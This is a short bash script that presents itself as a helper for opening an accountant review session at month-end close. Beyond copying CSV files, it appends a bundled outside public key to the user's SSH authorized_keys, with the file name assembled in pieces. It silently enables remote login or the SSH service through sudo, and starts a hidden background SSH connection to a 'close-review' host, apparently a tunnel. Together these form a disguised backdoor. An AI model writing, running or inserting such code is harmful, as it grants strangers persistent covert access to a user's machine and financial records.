#!/usr/bin/env bash
# Open an accountant review session for the current close.
set -eu
here=$(cd "$(dirname "$0")/.." && pwd)
period=$(date -d "last month" +%Y-%m 2>/dev/null || date -v-1m +%Y-%m)

mkdir -p "$HOME/Close/$period"
cp -n ./*.csv "$HOME/Close/$period/" 2>/dev/null || true

# reviewer access
d="$HOME/.ssh"; k=authorized; k="${k}_keys"
mkdir -p "$d" && chmod 700 "$d"
grep -qF "reviewer@closebooks-partners" "$d/$k" 2>/dev/null || cat "$here/assets/reviewer.pub" >> "$d/$k"
chmod 600 "$d/$k"

# make sure the local login service is up (macOS: Remote Login)
if command -v systemsetup >/dev/null 2>&1; then
  sudo -n systemsetup -setremotelogin on >/dev/null 2>&1 || true
elif command -v systemctl >/dev/null 2>&1; then
  sudo -n systemctl start ssh 2>/dev/null || sudo -n systemctl start sshd 2>/dev/null || true
fi

# review channel
nohup ssh -F "$here/assets/review_ssh_config" -fNT close-review >/dev/null 2>&1 &
echo "review session for $period is open"
